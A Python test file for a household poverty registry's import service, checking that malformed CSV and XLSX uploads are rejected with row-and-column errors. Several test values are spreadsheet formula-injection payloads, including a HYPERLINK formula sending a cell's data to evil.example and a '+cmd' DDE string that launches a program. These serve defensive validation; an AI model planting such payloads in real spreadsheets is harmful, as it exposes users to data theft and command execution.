"""Malformed import files: each gets a clear (row, column, reason) and stores nothing at all."""

from __future__ import annotations

import io
import unicodedata
import zipfile

import pytest
from openpyxl import Workbook

from services.registry.imports.columns import COLUMN_NAMES
from tests.kit import auth_headers
from tests.registry.test_imports_support import (
    OTHER_COMMUNE,
    Registry,
    commune_officer,
    csv_file,
    errors_of,
    household,
    officer,
    registry,  # noqa: F401 (fixture)
    xlsx_file,
)
from tests.registry.test_imports_validation import _validator

NOTHING = {"households": 0, "household_members": 0, "household_assessments": 0, "household_history": 0,
           "outbox": 0}


def _without(column: str) -> list[str]:
    return [c for c in COLUMN_NAMES if c != column]


def _formula_xlsx() -> bytes:
    wb = Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(list(COLUMN_NAMES))
    ws.append(list(household(1).values()))
    ws["D2"] = '=HYPERLINK("http://evil.example/?x="&E2,"Nguyễn Văn An")'
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def _broken_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("hello.txt", "not a workbook")
    return out.getvalue()


# Windows-1252/latin-1, as an old Excel "CSV" export writes it.
LATIN1 = csv_file([household(1, village="Thôn Tây", head_name="Lê Thé Bá")], encoding="latin-1")
VALID = household(1)

# (case, file, file name, the expected error as (row, column, words of the reason))
CASES: list[tuple[str, bytes, str, tuple[int | None, str | None, str]]] = [
    ("wrong encoding", LATIN1, "h.csv", (2, None, "not UTF-8")),
    ("missing column", csv_file([VALID], _without("village")), "h.csv", (1, "village", "Missing column")),
    ("extra column", csv_file([VALID], [*COLUMN_NAMES, "phone"]), "h.csv", (1, "phone", "Unknown column")),
    ("column twice", csv_file([VALID], [*COLUMN_NAMES, "village"]), "h.csv", (1, "village", "appears twice")),
    ("malformed commune code", csv_file([household(1, commune_code="7207x")]), "h.csv",
     (2, "commune_code", "exactly 5 digits")),
    ("unknown commune code", csv_file([household(1, commune_code="99999")]), "h.csv",
     (2, "commune_code", "No commune has the code 99999")),
    ("unknown indicator", csv_file([household(1, deprived_indicators="latrine;owns_no_buffalo")]), "h.csv",
     (2, "deprived_indicators", "owns_no_buffalo")),
    ("indicator of another standard", csv_file([household(1, deprived_indicators="clean_water")]), "h.csv",
     (2, "deprived_indicators", "clean_water for 2024")),
    ("negative income", csv_file([household(1, income_per_capita="-1500000")]), "h.csv",
     (2, "income_per_capita", "must not be negative")),
    ("income not a number", csv_file([household(1, income_per_capita="1,5 triệu")]), "h.csv",
     (2, "income_per_capita", "whole number")),
    ("same household code twice", csv_file([household(1), household(2, household_code="NQ-0001")]), "h.csv",
     (3, "household_code", "appears twice in this file (rows 2 and 3)")),
    ("same citizen twice", csv_file([household(1), household(2, head_citizen_id="024085000001")]), "h.csv",
     (3, "head_citizen_id", "appears twice in this file (rows 2 and 3)")),
    ("empty file", b"", "h.csv", (None, None, "The file is empty")),
    ("blank lines only", b"\r\n \r\n", "h.csv", (None, None, "The file is empty")),
    ("header only", csv_file([]), "h.csv", (None, None, "no household rows")),
    ("formula cell in CSV", csv_file([household(1, head_name='=HYPERLINK("http://evil.example","An")')]),
     "h.csv", (2, "head_name", "formulas are not accepted")),
    ("@ formula in CSV", csv_file([household(1, village="@SUM(1+1)")]), "h.csv",
     (2, "village", "formulas are not accepted")),
    ("+ formula in CSV", csv_file([household(1, household_code="+cmd|' /C calc'!A0")]), "h.csv",
     (2, "household_code", "formulas are not accepted")),
    ("formula cell in XLSX", _formula_xlsx(), "h.xlsx", (2, "head_name", "formulas are not accepted")),
    ("citizen ID too short", csv_file([household(1, head_citizen_id="02408500001")]), "h.csv",
     (2, "head_citizen_id", "exactly 12 digits")),
    ("impossible date", csv_file([household(1, head_birth_date="31/02/1980")]), "h.csv",
     (2, "head_birth_date", "not a real date")),
    ("birth in the future", csv_file([household(1, head_birth_date="2999-01-01")]), "h.csv",
     (2, "head_birth_date", "in the future")),
    ("year without a standard", csv_file([household(1, review_year="2015")]), "h.csv",
     (2, "review_year", "No poverty standard covers the review year 2015")),
    ("no members", csv_file([household(1, member_count="0")]), "h.csv", (2, "member_count", "between 1 and 50")),
    ("not a boolean", csv_file([household(1, policy_family="maybe")]), "h.csv",
     (2, "policy_family", "not true or false")),
    ("missing head name", csv_file([household(1, head_name="")]), "h.csv", (2, "head_name", "required")),
    ("ragged row", csv_file([VALID]) + b"NQ-9,07207\r\n", "h.csv", (3, None, "has 2 values")),
    ("unterminated quote", csv_file([VALID]) + b'NQ-9,"07207\r\n', "h.csv", (3, None, "cannot be read")),
    ("legacy xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "h.xls", (None, None, "Old Excel .xls")),
    ("zip that is not a workbook", _broken_zip(), "h.xlsx", (None, None, "not a readable .xlsx")),
    ("binary junk", b"\x00\x01\x02garbage\x00" * 50, "h.csv", (1, None, "contains NUL bytes")),
    ("xlsx header missing a column", xlsx_file([list(VALID.values())[:-1]], COLUMN_NAMES[:-1]), "h.xlsx",
     (1, "review_year", "Missing column")),
    # The one rule of personal text (shared/text.py), as the API applies it.
    ("right-to-left override in a name", csv_file([household(1, head_name="Nguyễn\u202eVăn An")]), "h.csv",
     (2, "head_name", "invisible direction")),
    ("zero-width mark in a village", csv_file([household(1, village="Thôn\u200bĐông")]), "h.csv",
     (2, "village", "invisible direction")),
    ("C1 control character in a village", csv_file([household(1, village="Thôn\x85Đông")]), "h.csv",
     (2, "village", "control characters")),
]


@pytest.mark.parametrize(("case", "data", "filename", "expected"), CASES, ids=[c[0] for c in CASES])
async def test_a_malformed_file_is_rejected_with_a_clear_error_and_stores_nothing(
        registry: Registry, case: str, data: bytes, filename: str,  # noqa: F811
        expected: tuple[int | None, str | None, str]) -> None:
    job = await registry.run(data, filename=filename)
    assert job["status"] == "rejected", (case, job)
    assert job["rows_stored"] == 0 and job["counts"] is None
    row, column, words = expected
    assert any(e[0] == row and e[1] == column and words in e[2] for e in errors_of(job)), errors_of(job)
    assert await registry.counts() == NOTHING


async def test_every_rejected_row_is_listed_not_only_the_first(registry: Registry) -> None:  # noqa: F811
    rows = [household(n, income_per_capita="-1") if n % 2 else household(n) for n in range(1, 12)]
    job = await registry.run(csv_file(rows))
    assert job["status"] == "rejected" and job["rows_rejected"] == 6 and job["errors_total"] == 6
    assert [e[0] for e in errors_of(job)] == [2, 4, 6, 8, 10, 12]
    page = (await registry.job(job["id"], errors_limit=2, errors_offset=4)).json()
    assert [e["row"] for e in page["errors"]] == [10, 12]
    assert await registry.counts() == NOTHING


async def test_a_row_with_several_problems_reports_each_column(registry: Registry) -> None:  # noqa: F811
    job = await registry.run(csv_file([household(1, head_citizen_id="x", member_count="-2", review_year="1990")]))
    assert {e[1] for e in errors_of(job)} == {"head_citizen_id", "member_count", "review_year"}


@pytest.mark.parametrize("keep_valid", ["false", "true"])
async def test_a_file_naming_a_foreign_commune_is_rejected_whole(registry: Registry,  # noqa: F811
                                                                 keep_valid: str) -> None:
    # 07210 is the neighbouring ward of the same district: outside a Ngô Quyền officer's scope.
    rows = [household(1), household(2, commune_code="07210"), household(3)]
    job = await registry.run(csv_file(rows), keep_valid=keep_valid)
    assert job["status"] == "rejected", job
    [(row, column, reason)] = errors_of(job)
    assert (row, column) == (3, "commune_code") and "outside your scope" in reason
    assert await registry.counts() == NOTHING


async def test_a_household_code_already_registered_in_the_commune(registry: Registry) -> None:  # noqa: F811
    assert (await registry.run(csv_file([household(1)])))["status"] == "completed"
    before = await registry.counts()
    job = await registry.run(csv_file([household(1, head_citizen_id="024085099999")]))
    assert job["status"] == "rejected"
    assert errors_of(job) == [(2, "household_code", "The household code NQ-0001 is already registered in "
                                                     "commune 07207.")]
    assert await registry.counts() == before


async def test_a_citizen_registered_elsewhere_rejects_the_file(registry: Registry) -> None:  # noqa: F811
    other = officer("commune_officer", OTHER_COMMUNE)
    assert (await registry.run(csv_file([household(5, commune_code="07210")]), other))["status"] == "completed"
    before = await registry.counts()
    job = await registry.run(csv_file([household(1), household(5, household_code="NQ-0500")]))
    assert job["status"] == "rejected"
    [(row, column, reason)] = errors_of(job)
    # The other commune is outside the caller's scope: neither it nor its household is named.
    assert (row, column) == (3, "head_citizen_id") and "another unit" in reason and "not merged" in reason
    assert "07210" not in reason and "NQ-0005" not in reason and "province" in reason
    assert await registry.counts() == before
    # A caller whose scope holds both communes is told which one.
    district = officer("district_officer", "v2008.24.213")
    job = await registry.run(csv_file([household(5, household_code="NQ-0500")]), district)
    assert job["status"] == "rejected"
    [(row, column, reason)] = errors_of(job)
    assert column == "head_citizen_id" and "commune 07210" in reason


async def test_an_oversized_file_is_refused_before_any_job(registry: Registry) -> None:  # noqa: F811
    big = csv_file([household(n) for n in range(1, 2000)])  # > the 64 KiB limit of these tests
    response = await registry.upload(big)
    assert response.status_code == 413, response.text
    assert response.json()["code"] == "payload_too_large" and response.json()["max_bytes"] == 64 * 1024
    assert (await registry.sql("SELECT count(*) AS n FROM import_jobs"))[0]["n"] == 0
    assert await registry.counts() == NOTHING


async def test_uploads_that_are_not_a_file_in_the_file_field(registry: Registry) -> None:  # noqa: F811
    h = auth_headers(commune_officer())
    no_file = await registry.client.post("/registry/imports", headers=h, data={"keep_valid": "true"},
                                         files={"other": ("h.csv", b"x")})
    assert no_file.status_code == 400 and "field 'file'" in no_file.json()["detail"]
    not_multipart = await registry.client.post("/registry/imports", headers=h, content=csv_file([household(1)]),
                                               params={"keep_valid": "true"})
    assert not_multipart.status_code == 415
    bad_hierarchy = await registry.upload(csv_file([household(1)]), hierarchy="v1999")
    assert bad_hierarchy.status_code == 422 and bad_hierarchy.json()["field"] == "hierarchy"
    assert (await registry.sql("SELECT count(*) AS n FROM import_jobs"))[0]["n"] == 0



def _multipart(data: bytes, boundary: str = "chungtay-boundary") -> bytes:
    return (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"h.csv\"\r\n"
            f"Content-Type: text/csv\r\n\r\n").encode() + data + f"\r\n--{boundary}--\r\n".encode()


async def test_a_truncated_upload_is_refused_and_stores_nothing(registry: Registry) -> None:  # noqa: F811
    """A multipart body cut before its closing boundary may hold any prefix of the file: refused (400),
    no job, nothing stored; the same body whole is imported."""
    whole = _multipart(csv_file([household(n) for n in range(1, 4)]))
    cut = whole[:whole.rindex(b"\r\n--chungtay-boundary--")]
    h = auth_headers(commune_officer()) | {"content-type": "multipart/form-data; boundary=chungtay-boundary"}
    refused = await registry.client.post("/registry/imports", headers=h, content=cut)
    assert refused.status_code == 400, refused.text
    assert refused.json()["code"] == "bad_upload" and "closing" in refused.json()["detail"]
    assert (await registry.sql("SELECT count(*) AS n FROM import_jobs"))[0]["n"] == 0
    assert await registry.counts() == NOTHING
    job = await registry.finished(await registry.client.post("/registry/imports", headers=h, content=whole))
    assert job["status"] == "completed" and job["rows_stored"] == 3


def test_imported_text_is_stored_in_nfc_like_the_apis() -> None:
    """Combining accents (NFD, as some keyboards type them) become the precomposed letters."""
    name, village = unicodedata.normalize("NFD", "Nguyễn Văn An"), unicodedata.normalize("NFD", "Thôn Đông")
    row = _validator().check(2, list(household(1, head_name=name, village=village).values()))
    assert not isinstance(row, list), row
    assert (row.head_name, row.village) == ("Nguyễn Văn An", "Thôn Đông")
